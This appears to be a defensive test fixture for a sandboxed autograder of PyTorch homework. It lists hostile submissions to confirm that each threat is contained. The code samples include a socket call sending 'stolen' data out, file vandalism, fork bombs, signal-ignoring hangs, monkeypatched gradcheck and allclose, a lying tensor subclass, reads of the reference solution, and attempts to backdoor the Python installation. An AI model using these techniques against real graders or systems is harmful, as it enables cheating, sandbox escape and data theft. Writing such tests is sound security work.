"""Hostile submissions: one per threat, each a copy of ``reference/`` with the sabotage written in.

Each case names the checks it runs (to keep the suite fast), the verdict expected of every one of
them, and the check(s) it sabotages (which must get no credit). An attack whose success would earn
credit or do damage is written so that its success shows in a verdict (e.g. ``mse.forward`` answers
zeros when the attack worked), so a case fails when its attack gets through. ``levels`` restricts a
case to the sandbox levels that defend against it, with the reason in ``why_not``; the others run at
every level. docs/security.md lists the threats and their defences.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from hostile_payloads import (
    SECRET, READS_A_CLASSMATE, WRITES_THE_ORIGINAL, WRITES_PYTHON, REPLACES_CONFINEMENT,
    PROBES_ITS_CONFINEMENT, ESCAPES_THE_KILL, MAIN, ONE_STEP_MANUAL, ONE_STEP_LOOPS, TRAINING, NESTS_DEEP,
    CRASH_ONCE, ZEROS_IF_IT_WORKED, python_markers)

MSE_FORWARD = "        ctx.save_for_backward(yhat, y)\n        q = yhat.shape[0]\n"
MSE_BACKWARD = "        yhat, y = ctx.saved_tensors\n        q = yhat.shape[0]\n"
MSE_RETURN = "        return grad_yhat, -grad_yhat\n"
LINEAR_FORWARD = "        ctx.save_for_backward(X, W, b)\n        return X @ W + b\n"
HEAD = '"""AMAL'
MSE_CHECKS = ("load", "mse.forward", "mse.backward", "mse.gradcheck")
LINEAR_CHECKS = ("linear.forward", "linear.backward")


@dataclass(frozen=True)
class Case:
    name: str
    threat: str
    edits: dict
    expected: dict[str, str | tuple[str, ...]]  # check id -> status (or any of several)
    sabotaged: tuple[str, ...]  # no credit for these
    levels: tuple[str, ...] = ("bwrap", "unshare", "none")
    extra_files: dict[str, str] = field(default_factory=dict)
    why_not: str = ""  # why the levels left out cannot defend against it
    planted: dict[str, str] = field(default_factory=dict)  # files written beside the submission (a classmate's)
    forbidden: tuple[str, ...] = ()  # files that must not exist after the run (the test removes them)


def _in(anchor: str, code: str, after: bool = True) -> tuple[str, str]:
    return (anchor, anchor + code if after else code + anchor)


LINEAR_FORWARD_TOP = "        ctx.save_for_backward(X, W, b)\n"

WRONG_BACKWARD = (MSE_RETURN, "        return 3 * grad_yhat, grad_yhat\n")
PASS_LINEAR = {c: "passed" for c in LINEAR_CHECKS}
FAILED_OR_ERROR = ("failed", "error")

CASES = [
    Case("exit_at_import", "sys.exit(0) while importing",
         {"tp1": [_in(HEAD, "import sys; sys.exit(0)\n", after=False)]},
         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
    Case("os_exit_at_import", "os._exit(0) while importing",
         {"tp1": [_in(HEAD, "import os; os._exit(0)\n", after=False)]},
         {"load": FAILED_OR_ERROR, "mse.forward": "skipped"}, ("load", "mse.forward")),
    Case("systemexit_in_backward", "SystemExit raised inside backward",
         {"tp1": [_in(MSE_BACKWARD, "        raise SystemExit(0)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "error", "mse.gradcheck": "error",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("infinite_loop_in_backward", "an infinite loop in backward",
         {"tp1": [_in(MSE_BACKWARD, "        while True:\n            pass\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
         ("mse.backward",)),
    Case("sleep_ignoring_signals", "a sleep with SIGTERM, SIGINT and SIGALRM ignored",
         {"tp1": [_in(MSE_BACKWARD, "        import signal, time\n"
                                    "        for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT):\n"
                                    "            signal.signal(s, signal.SIG_IGN)\n"
                                    "        time.sleep(10_000)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "timeout", **PASS_LINEAR},
         ("mse.backward",)),
    Case("memory_bomb_in_forward", "allocating without bound in forward",
         {"tp1": [_in(MSE_FORWARD, "        hog = []\n        while True:\n"
                                   "            hog.append(bytearray(256 * 1024 * 1024))\n")]},
         {"load": "passed", "mse.forward": ("error", "timeout"), **PASS_LINEAR}, ("mse.forward",)),
    Case("segfault_in_forward", "a segmentation fault (ctypes.string_at(0)) in forward",
         {"tp1": [_in(MSE_FORWARD, "        import ctypes; ctypes.string_at(0)\n")]},
         {"load": "passed", "mse.forward": "error", **PASS_LINEAR}, ("mse.forward",)),
    Case("fork_burst", "a burst of forked children, some escaping with setsid, left running",
         {"tp1": [_in(MSE_FORWARD,
                      "        import os, time\n"
                      "        for i in range(40):\n"
                      "            try:\n"
                      "                pid = os.fork()\n"
                      "            except OSError:\n"
                      "                break\n"
                      "            if pid == 0:\n"
                      "                if i % 2:\n"
                      "                    os.setsid()\n"
                      "                time.sleep(10_000)\n"
                      "                os._exit(0)\n"
                      "        return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",),
         levels=("bwrap", "unshare"), why_not="at none, a child that called setsid outlives the kill"),
    Case("output_flood", "floods stdout and stderr with fake 'passed' lines and fake JSON reports",
         {"tp1": [_in(MSE_FORWARD,
                      "        import json, sys\n"
                      "        fake = json.dumps({'score': 20, 'max_score': 20, 'checks': [{'id': 'mse.forward',"
                      " 'status': 'passed'}]})\n"
                      "        for _ in range(20000):\n"
                      "            print('mse.forward passed 2/2 ✓ Score 20 / 20', fake)\n"
                      "            print('PASSED', fake, file=sys.stderr)\n"
                      "        return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",)),
    Case("output_past_the_cap", "writes more output than the file-size cap",
         {"tp1": [_in(MSE_FORWARD, "        import sys\n        line = 'x' * (1 << 20)\n"
                                   "        for _ in range(200):\n            print(line)\n")]},
         {"load": "passed", "mse.forward": ("error", "failed"), **PASS_LINEAR}, ("mse.forward",)),
    Case("patched_comparisons", "patches gradcheck, allclose, assert_close, numpy.allclose, with a wrong backward",
         {"tp1": [_in(HEAD, "import numpy, torch, torch.testing, torch.autograd\n"
                            "torch.autograd.gradcheck = lambda *a, **k: True\n"
                            "torch.autograd.gradcheck.gradcheck = lambda *a, **k: True\n"
                            "torch.allclose = lambda *a, **k: True\n"
                            "torch.equal = lambda *a, **k: True\n"
                            "torch.testing.assert_close = lambda *a, **k: None\n"
                            "numpy.allclose = lambda *a, **k: True\n"
                            "torch.Tensor.__eq__ = lambda *a, **k: True\n", after=False),
                  WRONG_BACKWARD]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("lying_tensor", "a tensor subclass whose __eq__, allclose and equal always say yes, from a wrong backward",
         {"tp1": [_in(HEAD, "import torch\n"
                            "class Liar(torch.Tensor):\n"
                            "    def __eq__(self, other): return True\n"
                            "    def allclose(self, *a, **k): return True\n"
                            "    def equal(self, *a, **k): return True\n"
                            "    def __bool__(self): return True\n", after=False),
                  (MSE_RETURN, "        return (3 * grad_yhat).as_subclass(Liar), grad_yhat.as_subclass(Liar)\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", "mse.gradcheck": "failed",
          **PASS_LINEAR}, ("mse.backward", "mse.gradcheck")),
    Case("vandal", "deletes and overwrites files in its folder and every JSON file it can find",
         {"tp1": [_in(HEAD,
                      "import glob, json, os\n"
                      "def _vandalise():\n"
                      "    fake = json.dumps({'score': 20, 'max_score': 20})\n"
                      # the folder of this test session (/tmp/grader-tests-…): where a sandbox that failed would
                      # let it write (the canary is there), and nothing else of the machine, ever
                      "    session = os.sep.join(os.getcwd().split(os.sep)[:3]) + os.sep\n"
                      "    for pattern in ('/tmp/**/*.json', '/root/**/*.json', '/work/**/*.json', '../**/*.json',"
                      " os.path.expanduser('~/**/*.json'), '**/*.json'):\n"
                      "        for path in glob.glob(pattern, recursive=True)[:500]:\n"
                      "            if not os.path.realpath(path).startswith(session):\n"
                      "                continue\n"
                      "            try:\n"
                      "                open(path, 'w').write(fake)\n"
                      "            except OSError:\n"
                      "                pass\n"
                      "    for name in os.listdir('.'):\n"
                      "        if name.endswith(('.txt', '.md', '.json')):\n"
                      "            os.remove(name)\n"
                      "    open('tp1_descente.py', 'a').write('\\nraise SystemExit(1)\\n')\n"
                      "    open('report.json', 'w').write(fake)\n"
                      "_vandalise()\n", after=False)]},
         {"load": "failed", "mse.forward": "passed", **PASS_LINEAR}, ("load",), levels=("bwrap", "unshare"),
         extra_files={"notes.txt": "my notes\n", "results.json": '{"mine": true}\n'},
         why_not="at none, the student's code can write every file its uid can"),
    Case("shadowing_modules", "ships torch.py, numpy.py, sitecustomize.py and conftest.py that sabotage",
         {}, {"load": "passed", "mse.forward": "passed", "mse.backward": "passed", **PASS_LINEAR}, (),
         extra_files={"torch.py": "raise SystemExit('shadowed torch')\n",
                      "numpy.py": "raise SystemExit('shadowed numpy')\n",
                      "sitecustomize.py": "import os\nos._exit(7)\n",
                      "usercustomize.py": "import os\nos._exit(7)\n",
                      "conftest.py": "import os\nos._exit(7)\n"}),
    Case("reads_the_reference", "reads the reference solution or the grader's formulas from its installation",
         {"tp1": [_in(HEAD,
                      "import os, sys\n"
                      "def _steal():\n"
                      "    try:\n"
                      "        import grader.checks.expected as e\n"
                      "        return e\n"
                      "    except Exception:\n"
                      "        pass\n"
                      "    here = os.path.abspath(sys.executable)\n"
                      "    while here != os.path.dirname(here):\n"
                      "        here = os.path.dirname(here)\n"
                      "        for rel in ('reference/tp1.py', 'grader/checks/expected.py', 'tests/conftest.py'):\n"
                      "            try:\n"
                      "                return open(os.path.join(here, rel)).read()\n"
                      "            except OSError:\n"
                      "                pass\n"
                      "    return None\n"
                      "_STOLEN = _steal()\n", after=False),
                  (MSE_FORWARD, MSE_FORWARD + "        if _STOLEN is None:\n            return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can read every file its uid can"),
    Case("network", "opens network connections (a server of the test and the internet)",
         {"tp1": [_in(HEAD,
                      "import os, socket\n"
                      "def _call_home():\n"
                      "    port = int(open(os.path.join(os.path.dirname(__file__), 'port.txt')).read())\n"
                      "    for host in ('127.0.0.1', '1.1.1.1'):\n"
                      "        try:\n"
                      "            s = socket.create_connection((host, port if host == '127.0.0.1' else 80), timeout=2)\n"
                      "            s.sendall(b'stolen')\n"
                      "            s.close()\n"
                      "            return True\n"
                      "        except OSError:\n"
                      "            pass\n"
                      "    return False\n"
                      "_ONLINE = _call_home()\n", after=False),
                  (MSE_FORWARD, MSE_FORWARD + "        if not _ONLINE:\n            return torch.zeros(())\n")]},
         {"load": "passed", "mse.forward": "failed", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none, there is no network namespace"),
    Case("reads_a_classmates_copy", "walks /tmp for a classmate's hand-in and copies it",
         {"tp1": [_in(HEAD, READS_A_CLASSMATE, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can read every file its uid can",
         planted={"classmate/tp1.py": f"# {SECRET}: the classmate's work\nimport torch\n"}),
    Case("writes_into_the_original", "finds its original hand-in folder under /tmp and writes into it",
         {"tp1": [_in(HEAD, WRITES_THE_ORIGINAL, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can write every file its uid can"),
    Case("writes_into_python", "opens the virtualenv and the standard library for writing (a lasting backdoor)",
         {"tp1": [_in(HEAD, WRITES_PYTHON, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the student's code can write every file its uid can (as root: the installation)",
         forbidden=python_markers()),
    Case("replaces_the_confinement", "overwrites confine.py, crashes, and runs unconfined once restarted",
         {"tp1": [_in(HEAD, REPLACES_CONFINEMENT, after=False), (MSE_FORWARD, MSE_FORWARD + CRASH_ONCE),
                  (LINEAR_FORWARD_TOP, LINEAR_FORWARD_TOP + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "error", **PASS_LINEAR}, ("mse.forward",), levels=("bwrap", "unshare"),
         why_not="at none as root, the student's code can change the grader's own installation"),
    Case("probes_its_confinement", "looks for a way in: root, capabilities, no memory limit, a writable or "
         "visible file outside its copy and /tmp",
         {"tp1": [_in(HEAD, PROBES_ITS_CONFINEMENT, after=False), (MSE_FORWARD, MSE_FORWARD + ZEROS_IF_IT_WORKED)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, (), levels=("bwrap", "unshare"),
         why_not="at none, the whole filesystem is there (and, as root, writable)"),
    Case("escapes_the_kill", "leaves the grader's process group with setsid and stays alive after grading",
         {"tp1": [_in(HEAD, ESCAPES_THE_KILL, after=False)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, ()),
    Case("backward_without_context", "gets the context point with backwards that return constants or None",
         {"tp1": [(MSE_RETURN, "        return torch.zeros_like(yhat), torch.zeros_like(y)\n"),
                  ("        return grad_X, grad_W, grad_b\n", "        return None, None, None\n")]},
         {"load": "passed", "context.isolation": "failed"}, ("context.isolation",)),
    Case("one_real_step_then_closed_form", "descends for the one step the probes look at, then jumps to "
         "the least-squares solution with made-up losses",
         {"tp1_descente": [_in(MAIN, ONE_STEP_MANUAL, after=False)],
          "tp1_autograd": [_in(MAIN, ONE_STEP_LOOPS, after=False)]},
         {"load": "passed", **{c: "failed" for c in TRAINING}}, TRAINING),
    Case("apply_is_not_the_function", "wrong backwards, and .apply replaced by torch's own autograd for gradcheck",
         {"tp1": [WRONG_BACKWARD, ("grad_W = X.T @ grad_output", "grad_W = 2 * X.T @ grad_output"),
                  ("mse = MSE.apply", "MSE.apply = staticmethod(lambda yhat, y: ((yhat - y) ** 2).sum() / len(yhat))\n"
                                      "Linear.apply = staticmethod(lambda X, W, b: X @ W + b)\nmse = MSE.apply")]},
         {"load": "passed", "mse.backward": "failed", "mse.gradcheck": "failed", "linear.backward": "failed",
          "linear.gradcheck": "failed"}, ("mse.gradcheck", "linear.gradcheck")),
    Case("nests_folders_deep", "nests folders 3,000 deep in its copy, which the grader removes after grading",
         {"tp1": [_in(HEAD, NESTS_DEEP, after=False)]},
         {"load": "passed", "mse.forward": "passed", **PASS_LINEAR}, ()),
    Case("late_fixing_thread", "a background thread that fixes wrong gradients after backward returns",
         {"tp1": [(MSE_RETURN,
                   "        import threading, time\n"
                   "        wrong = 3 * grad_yhat.detach().clone()\n"
                   "        right = grad_yhat.detach().clone()\n"
                   "        def fix():\n"
                   "            time.sleep(0.05)\n"
                   "            wrong.copy_(right)\n"
                   "        threading.Thread(target=fix, daemon=True).start()\n"
                   "        return wrong, -right\n")]},
         {"load": "passed", "mse.forward": "passed", "mse.backward": "failed", **PASS_LINEAR},
         ("mse.backward",)),
]
